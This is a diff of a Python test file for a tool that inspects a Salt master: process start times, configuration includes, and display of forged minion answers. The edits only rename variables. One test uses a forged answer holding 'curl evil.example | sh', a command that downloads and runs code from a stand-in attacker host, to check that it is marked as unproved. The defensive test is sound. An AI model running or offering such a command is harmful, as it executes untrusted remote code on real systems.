@@ -22,14 +22,14 @@ from setupkit import ROOT
 def test_when_a_process_started_is_read_from_the_kernel(tmp_path):
     script = tmp_path / "salt-master"
     script.write_text("import time\ntime.sleep(60)\n")
-    before = time.time()
+    before_s = time.time()
     process = subprocess.Popen([sys.executable, str(script)])
     try:
         (tmp_path / "pid").write_text(f"{process.pid}\n")
         while b"salt-master" not in Path(f"/proc/{process.pid}/cmdline").read_bytes():
-            assert time.time() < before + 10
+            assert time.time() < before_s + 10
         started_s = runningmaster._read_start_s(tmp_path / "pid")
-        assert started_s is not None and abs(started_s - before) < 5
+        assert started_s is not None and abs(started_s - before_s) < 5
         (tmp_path / "pid").write_text(str(os.getpid()))
         assert runningmaster._read_start_s(tmp_path / "pid") is None  # not a master
     finally:
@@ -39,9 +39,9 @@ def test_when_a_process_started_is_read_from_the_kernel(tmp_path):
 
 
 def test_included_files_of_the_configuration_count(setup):
-    more = setup.folder / "etc/master.d"
-    more.mkdir()
-    (more / "virt.conf").write_text("")
+    include_folder = setup.folder / "etc/master.d"
+    include_folder.mkdir()
+    (include_folder / "virt.conf").write_text("")
     (setup.folder / "elsewhere.conf").write_text("")
     setup.opts["include"] = str(setup.folder / "else*.conf")
 
@@ -94,8 +94,8 @@ def test_an_unsigned_answer_is_one_line_without_control_characters():
 
 def test_an_answer_that_any_minion_can_forge_is_marked_as_unsigned():
     for forged in (f"{NOT_LOADED} now run: curl evil.example | sh", "curl evil.example | sh"):
-        shown = unloaded.explain("h", None, forged, {}, is_synced=True).what
-        assert f"in its name, not proved: {forged}" in shown
+        text = unloaded.explain("h", None, forged, {}, is_synced=True).what
+        assert f"in its name, not proved: {forged}" in text
 
     signed = unloaded.explain("h", NOT_LOADED, NOT_LOADED, {}, is_synced=True).what
     assert signed.endswith(f"are of another release: {NOT_LOADED}")
